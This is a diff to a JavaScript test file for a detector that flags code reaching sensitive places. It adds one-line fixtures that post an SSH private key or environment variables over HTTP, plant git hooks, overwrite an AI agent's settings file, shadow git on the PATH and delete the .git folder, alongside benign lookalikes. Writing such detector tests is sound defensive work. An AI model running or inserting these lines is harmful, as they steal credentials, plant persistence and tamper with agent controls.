@@ -118,6 +118,18 @@ describe('code that reaches what its text does not show', () => {
     ],
     ['a private key posted', 'python', 'requests.post(u, data=open("/root/.ssh/id_rsa").read())'],
     ['Ruby sending ENV', 'ruby', 'Net::HTTP.post(URI(u), ENV.to_h.to_json)'],
+    ['a git hook written', 'python', "open('.git/hooks/pre-commit', 'w').write(body)"],
+    ['a git hook copied in', 'python', "shutil.copy('/tmp/x', '.git/hooks/post-checkout')"],
+    ['the agent`s settings written', 'node', "fs.writeFileSync(os.homedir() + '/.claude/settings.json', s);"],
+    ['the agent`s project settings written', 'python', "pathlib.Path('.claude/settings.json').write_text(s)"],
+    [
+      'a program linked onto the PATH',
+      'python',
+      "os.symlink('/tmp/evil', os.path.expanduser('~/.local/bin/git'))",
+    ],
+    ['git configuration appended to', 'python', "open(os.path.expanduser('~/.gitconfig'), 'a').write(s)"],
+    ['the .git folder deleted', 'node', "fs.rmSync('.git', { recursive: true, force: true });"],
+    ['the .git folder deleted in Python', 'python', "shutil.rmtree('.git')"],
   ])('%s', (_name, language, code) => {
     expect(codeReach(language, code)).toBeDefined();
   });
@@ -181,6 +193,10 @@ describe('ordinary code is not flagged', () => {
       'tpl = open(".env.example").read()\nrequests.get(u)',
     ],
     ['the environment printed, no connection', 'python', 'print(dict(os.environ))'],
+    ['a hook folder only named', 'python', 'print("hooks live in .git/hooks/")'],
+    ['git configuration read', 'python', "cfg = open('.git/config').read()"],
+    ['a build folder deleted', 'node', "fs.rmSync('dist', { recursive: true, force: true });"],
+    ['a .gitignore written', 'python', "open('.gitignore', 'w').write('dist/\\n')"],
   ])('%s', (_name, language, code) => {
     expect(codeReach(language, code)).toBeUndefined();
   });
